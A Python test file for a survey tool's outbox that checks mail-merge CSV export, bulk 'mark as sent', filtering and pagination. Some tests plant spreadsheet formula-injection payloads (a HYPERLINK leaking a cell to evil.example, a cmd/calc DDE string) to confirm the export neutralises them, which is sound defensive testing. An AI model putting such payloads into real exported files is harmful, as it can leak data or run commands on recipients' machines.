"""Sending without SMTP (issue 14, point 6): the outbox filtered by round and status
with counts from the database, a page at a time; the mail-merge file with each
recipient's working link and every cell guarded against formula injection; and
"mark as sent", one message or all those a filter selects, after which delivery by a
real SMTP server sends none of them."""

from __future__ import annotations

import csv
import io
import re
from datetime import timedelta

import pytest

from elicit.extensions import db
from surveys.delivery import (
    CANCELLED_PREFIX,
    CLAIM_PREFIX,
    SmtpSettings,
    deliver,
    delivery_status,
    requeue,
)
from surveys.links import LinkKeys, new_key
from surveys.models import AuditEvent, MessageEvent, OutboxMessage, Panelist, utcnow
from surveys.outbox import MAIL_MERGE_COLUMNS, status_expression
from surveys.panel import panelist_for_token
from surveys.rounds import close_round, open_round
from tests.conftest import csrf_token, enter, log_in
from tests.smtp_sink import smtp_sink

SLUG = "us-mexico-intelligence"
OUTBOX = f"/console/studies/{SLUG}/outbox"
MAIL_MERGE = f"{OUTBOX}/mail-merge.csv"
HOSTILE_NAME = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.fixture
def study(make_study, make_user):
    """The demo study with a facilitator and a researcher."""
    created = make_study()
    make_user("lead@example.org", studies=[created])
    make_user("analyst@example.org", role="researcher", studies=[created])
    return created


@pytest.fixture
def invited(study, make_panel, client):
    """Four panelists invited to round 1 without a mail server: four messages waiting."""
    links = make_panel(study, 4)
    open_round(db.session, study)
    log_in(client, "lead@example.org")
    page = client.get(f"/console/studies/{SLUG}/panel").text
    sent = client.post(
        f"/console/studies/{SLUG}/invitations", data={"csrf_token": csrf_token(page)}
    )
    assert sent.status_code == 303
    return links


def messages() -> list[OutboxMessage]:
    """Every message, oldest first."""
    db.session.expire_all()
    return list(db.session.execute(db.select(OutboxMessage).order_by(OutboxMessage.id)).scalars())


def read_csv(response) -> list[dict[str, str]]:
    """The rows of a downloaded mail-merge file (after checking its byte-order mark)."""
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    assert "attachment" in response.headers["Content-Disposition"]
    raw = response.get_data()
    assert raw.startswith("\ufeff".encode())  # for Excel: UTF-8, not the legacy code page
    reader = csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline=""))
    header, *rows = list(reader)
    assert tuple(header) == MAIL_MERGE_COLUMNS
    return [dict(zip(header, row, strict=True)) for row in rows]


def test_the_mail_merge_file_holds_each_message_with_a_link_that_opens_it(
    study, invited, client, app
):
    first = db.session.execute(db.select(Panelist).order_by(Panelist.id)).scalars().first()
    first.roster.name = HOSTILE_NAME
    db.session.commit()
    subjects = ["@SUM(1+1)", "+cmd|' /C calc'!A0", "-2+3", "Round 1 is open"]
    for message, subject in zip(messages(), subjects, strict=True):
        message.subject = subject
    db.session.commit()

    rows = read_csv(client.get(MAIL_MERGE))
    assert len(rows) == 4
    assert sorted(row["email"] for row in rows) == [
        f"expert.number{index}@example.org" for index in range(4)
    ]
    hostile = next(row for row in rows if row["email"] == first.roster.email)
    assert hostile["name"] == "'" + HOSTILE_NAME  # the exports' guard: text, not a formula
    assert sorted(row["subject"] for row in rows) == sorted(
        ["'@SUM(1+1)", "'+cmd|' /C calc'!A0", "'-2+3", "Round 1 is open"]
    )
    for row in rows:
        assert row["problem"] == ""
        assert row["language"] in {"en", "es"}
        assert re.fullmatch(r"http://elicit.test/e/[A-Za-z0-9_-]{20,}", row["personal_link"])
        assert row["personal_link"] in row["body"]
        assert "[personal link]" not in row["body"]
        token = row["personal_link"].rsplit("/", 1)[1]
        assert panelist_for_token(db.session, token).roster.email == row["email"]
    # The link works: the expert it belongs to gets in with it.
    expert = app.test_client()
    enter(expert, hostile["personal_link"].rsplit("/", 1)[1])
    assert expert.get("/e/").status_code == 200
    # The download is audited, without a name or an address.
    (event,) = db.session.execute(
        db.select(AuditEvent).where(AuditEvent.action == "messages.mail_merge")
    ).scalars()
    assert "example.org" not in str(event.details) and "HYPERLINK" not in str(event.details)


def test_the_subject_guard_matches_the_exports(study, invited, client):
    """ "-2+3" starts with "-" and is not a plain number: guarded; "-3" would not be."""
    (message, *_) = messages()
    message.subject = "-3"
    db.session.commit()
    subjects = {row["subject"] for row in read_csv(client.get(MAIL_MERGE))}
    assert "-3" in subjects


def test_a_link_that_cannot_be_read_leaves_its_row_without_link_or_body(study, invited, client):
    panelist = db.session.execute(db.select(Panelist).order_by(Panelist.id)).scalars().first()
    panelist.token_sealed = LinkKeys([new_key()]).seal("sealed-with-a-key-we-no-longer-have")
    db.session.commit()
    rows = read_csv(client.get(MAIL_MERGE))
    broken = next(row for row in rows if row["email"] == panelist.roster.email)
    assert broken["personal_link"] == "" and broken["body"] == ""
    assert "cannot be read" in broken["problem"]
    assert sum(row["problem"] == "" for row in rows) == 3


def test_marking_in_bulk_leaves_unsent_the_messages_whose_link_cannot_be_read(
    study, invited, client
):
    """Their text was never shown (the page and the file leave it out), so nobody sent
    them: the bulk action marks the three others and says why one is left; the page's
    warning says that it counts its own messages only."""
    panelist = db.session.execute(db.select(Panelist).order_by(Panelist.id)).scalars().first()
    panelist.token_sealed = LinkKeys([new_key()]).seal("sealed-with-a-key-we-no-longer-have")
    db.session.commit()
    page = client.get(OUTBOX).text
    assert "1 message cannot be sent: its personal link cannot be read" in page
    assert "Counted on this page only" in page
    bulk = client.post(f"{OUTBOX}/sent", data={"csrf_token": csrf_token(page)})
    assert bulk.status_code == 303
    shown = client.get(bulk.location).text
    assert "3 messages are marked as sent." in shown
    assert "1 message was left unsent: its personal link cannot be read" in shown
    left = {message.panelist_id: delivery_status(message) for message in messages()}
    assert left.pop(panelist.id) == "waiting"
    assert set(left.values()) == {"sent"}
    audit = db.session.execute(
        db.select(AuditEvent).where(AuditEvent.action == "messages.mark_sent")
    ).scalar_one()
    assert audit.details["marked"] == 3


def test_blind_studies_and_researchers_get_no_mail_merge(study, invited, client):
    page = client.get(OUTBOX).text
    assert 'id="mail-merge"' in page and 'id="mark-all-sent"' in page
    log_in(client, "analyst@example.org")
    assert client.get(MAIL_MERGE).status_code == 403
    assert 'id="mail-merge"' not in client.get(OUTBOX).text
    study.anonymity = "blind"
    db.session.commit()
    log_in(client, "lead@example.org")
    refused = client.get(MAIL_MERGE)
    assert refused.status_code == 403
    assert "no personal link is ever shown" in refused.text
    assert "/e/" not in refused.text and "example.org" not in refused.text
    page = client.get(OUTBOX).text
    assert 'id="mail-merge"' not in page and "Mark as sent" not in page
    token = csrf_token(page)
    (message, *_) = messages()
    assert client.post(f"{OUTBOX}/{message.id}/sent", data={"csrf_token": token}).status_code == 404
    assert client.post(f"{OUTBOX}/sent", data={"csrf_token": token}).status_code == 404
    assert all(message.sent_at is None for message in messages())


def test_marked_messages_are_never_delivered_afterwards(study, invited, client, link_keys):
    first, second, third, fourth = messages()
    page = client.get(OUTBOX).text
    assert page.count(">Mark as sent<") == 4
    token = csrf_token(page)
    one = client.post(f"{OUTBOX}/{first.id}/sent", data={"csrf_token": token})
    assert one.status_code == 303
    assert "1 message is marked as sent." in client.get(OUTBOX).text
    # In bulk: the filter's unsent messages up to the last one the page counted (the
    # fourth, queued "after the page was shown", is left for the next click).
    bulk = client.post(
        f"{OUTBOX}/sent",
        data={"csrf_token": token, "round": "1", "status": "waiting", "upto": str(third.id)},
    )
    assert bulk.status_code == 303 and "round=1" in bulk.location
    assert "2 messages are marked as sent." in client.get(bulk.location).text
    assert [delivery_status(message) for message in messages()] == [
        "sent",
        "sent",
        "sent",
        "waiting",
    ]
    # Marking again changes nothing: a sent message is not "unsent" any more.
    assert client.post(f"{OUTBOX}/{first.id}/sent", data={"csrf_token": token}).status_code == 404
    events = db.session.execute(
        db.select(MessageEvent.message_id, MessageEvent.kind, MessageEvent.detail).order_by(
            MessageEvent.message_id
        )
    ).all()
    assert [tuple(event) for event in events] == [
        (message.id, "sent", "marked as sent by lead@example.org")
        for message in (first, second, third)
    ]
    audits = db.session.execute(
        db.select(AuditEvent)
        .where(AuditEvent.action == "messages.mark_sent")
        .order_by(AuditEvent.id)
    ).scalars()
    assert [event.details["marked"] for event in audits] == [1, 2]

    # A mail server configured later sends only the one not marked, even when handed
    # every message.
    with smtp_sink() as (handler, port):
        smtp = SmtpSettings(host="127.0.0.1", port=port, sender="delphi@x.org")
        handed = requeue(db.session, study)
        assert handed == [fourth.id]
        done = deliver(
            db.session, [m.id for m in (first, second, third, fourth)], smtp, keys=link_keys
        )
        assert done.sent_ids == [fourth.id]
        assert handler.recipients() == [fourth.recipient]


def test_the_outbox_filters_by_round_and_status_with_counts(study, invited, client, monkeypatch):
    close_round(db.session, study)
    open_round(db.session, study)
    page = client.get(f"/console/studies/{SLUG}/panel").text
    client.post(f"/console/studies/{SLUG}/invitations", data={"csrf_token": csrf_token(page)})
    first, *_ = messages()
    first.sent_at = utcnow()  # one of round 1 sent
    db.session.commit()

    everything = client.get(OUTBOX).text
    assert ">All rounds (8)<" in everything
    assert ">Round 1 (4)<" in everything and ">Round 2 (4)<" in everything
    assert ">waiting (7)<" in everything and ">sent (1)<" in everything
    assert ">failed (0)<" in everything

    filtered = client.get(f"{OUTBOX}?round=1&status=waiting").text
    assert ">Round 1 (3)<" in filtered and ">Round 2 (4)<" in filtered  # within "waiting"
    assert ">waiting (3)<" in filtered and ">sent (1)<" in filtered  # within round 1
    assert filtered.count(">Mark as sent<") == 3
    assert "3 messages here are not sent yet." in filtered
    link = re.search(r'id="mail-merge" href="([^"]+)"', filtered).group(1).replace("&amp;", "&")
    assert "round=1" in link and "status=waiting" in link
    assert len(read_csv(client.get(link))) == 3
    assert len(read_csv(client.get(f"{MAIL_MERGE}?round=2"))) == 4

    refused = client.get(f"{OUTBOX}?status=lost&round=9")
    assert refused.status_code == 200
    assert "Choose one of the statuses listed." in refused.text
    assert "Choose one of the rounds listed." in refused.text
    assert client.get(f"{MAIL_MERGE}?status=lost").status_code == 400

    # A page at a time: counts from the database, rows of this page only.
    monkeypatch.setattr("surveys.outbox.PAGE_SIZE", 3)
    monkeypatch.setattr("elicit.facilitate.panel.PAGE_SIZE", 3)
    shown = client.get(f"{OUTBOX}?round=2").text
    assert "Page 1 of 2" in shown and shown.count("<tr><td>expert.number") == 3
    second = client.get(f"{OUTBOX}?round=2&page=2").text
    assert "Page 2 of 2" in second and second.count("<tr><td>expert.number") == 1
    assert 'rel="prev"' in second and 'rel="next"' not in second


def test_the_status_in_sql_is_delivery_status(study, invited):
    """Each status the filter counts is the one the page shows for the same message."""
    now = utcnow()
    states = [
        {},  # waiting
        {"next_attempt_at": now + timedelta(minutes=5)},  # queued
        {
            "next_attempt_at": now + timedelta(minutes=5),
            "attempts": 1,
            "error": CLAIM_PREFIX + now.isoformat(),
        },  # sending
    ]
    first, second, third, fourth = messages()
    for message, values in zip((first, second, third), states, strict=True):
        for name, value in values.items():
            setattr(message, name, value)
    fourth.failed_at = now
    fourth.error = CANCELLED_PREFIX + "the round closed"
    db.session.commit()
    more = [
        {"next_attempt_at": now - timedelta(minutes=1), "attempts": 2, "error": "451 later"},
        {"failed_at": now, "error": "550 no such user", "attempts": 1},
        {"sent_at": now},
        {
            "next_attempt_at": now - timedelta(minutes=1),
            "attempts": 1,
            "error": CLAIM_PREFIX + now.isoformat(),
        },  # a lapsed claim: to be retried
    ]
    for index, values in enumerate(more):
        db.session.add(
            OutboxMessage(
                study_id=study.id,
                panelist_id=first.panelist_id,
                round_id=first.round_id,
                kind="reminder",
                idempotency_key=f"test:{index}",
                language="en",
                recipient=first.recipient,
                subject="s",
                body="b",
                **values,
            )
        )
    db.session.commit()
    rows = db.session.execute(
        db.select(OutboxMessage, status_expression(now)).order_by(OutboxMessage.id)
    ).all()
    pairs = [(delivery_status(message, now), status) for message, status in rows]
    assert all(python == sql for python, sql in pairs), pairs
    assert {python for python, _ in pairs} == {
        "waiting",
        "queued",
        "sending",
        "retrying",
        "failed",
        "cancelled",
        "sent",
    }


def test_with_a_mail_server_nothing_is_sent_by_hand(study, invited, database_url):
    """With a mail server the system sends and records: no file, no marking offered,
    and a post anyway marks nothing."""
    from elicit import create_app

    served = create_app(
        {
            "TESTING": True,
            "SQLALCHEMY_DATABASE_URI": database_url,
            "SECRET_KEY": "test-secret-key-not-for-production",
            "ELICIT_SMTP_URL": "smtp://127.0.0.1:9",  # never reached: nothing is sent here
        }
    )
    client = served.test_client()
    log_in(client, "lead@example.org")
    page = client.get(OUTBOX).text
    assert 'id="mail-merge"' not in page and "Mark as sent" not in page
    assert client.get(MAIL_MERGE).status_code == 409
    (message, *_) = messages()
    marked = client.post(
        f"{OUTBOX}/{message.id}/sent", data={"csrf_token": csrf_token(page)}, follow_redirects=True
    )
    assert "A mail server is configured: it sends the messages." in marked.text
    assert all(message.sent_at is None for message in messages())
    with served.app_context():
        db.session.remove()
        db.engine.dispose()
